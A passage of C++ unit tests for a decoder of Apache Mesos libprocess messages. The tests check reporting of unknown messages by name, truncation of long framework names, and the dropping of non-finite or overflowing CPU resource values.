}

// ---- names only ----------------------------------------------------------------------

TEST(LibprocessMessages, OtherMessagesAreReportedByNameOnly) {
  Request r = libprocess("log-replica(1)", "mesos.internal.log.WriteRequest", to_bytes("\x08\x01"),
                         "log-coordinator(1)@10.0.0.1:5050");
  EXPECT_FALSE(route_of(r).wants_body);
  const MesosEvent e = decode(r);
  EXPECT_EQ(e.kind, MesosKind::kLibprocess);
  EXPECT_EQ(e.status, DecodeStatus::kUnknownMessage);
  EXPECT_EQ(e.message.view(), "mesos.internal.log.WriteRequest");
  EXPECT_EQ(e.receiver.view(), "log-replica(1)");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kUnclassified);
  EXPECT_EQ(e.pid_check, PidCheck::kDiffers);
}

TEST(LibprocessMessages, TruncatedTextIsMarked) {
  mi::RegisterFrameworkMessage msg;
  msg.mutable_framework()->set_name(std::string(300, 'n'));
  msg.mutable_framework()->set_user("root");
  const MesosEvent e = decode(libprocess("master", msg));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.framework.name.size, 128);
  EXPECT_TRUE(e.framework.name.truncated);
  EXPECT_FALSE(e.framework.user.truncated);
}

}  // namespace
}  // namespace segward::mesos

namespace segward::mesos {
namespace {

using namespace segward::mesos::testing;
namespace mi = ::mesos::internal;

TEST(LibprocessMessages, NonFiniteResourcesAreNotSummed) {
  mi::RegisterSlaveMessage msg;
  auto* info = msg.mutable_slave();
  for (const double value : {4.0, std::numeric_limits<double>::quiet_NaN(), std::numeric_limits<double>::infinity(),
                             1e308, 1e308}) {
    auto* r = info->add_resources();
    r->set_name("cpus");
    r->mutable_scalar()->set_value(value);
  }
  const MesosEvent e = decode(libprocess("master", msg));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_TRUE(std::isfinite(e.agent.cpus));
  EXPECT_DOUBLE_EQ(e.agent.cpus, 4.0 + 1e308);  // the second 1e308 would overflow: dropped
}

}  // namespace
}  // namespace segward::mesos
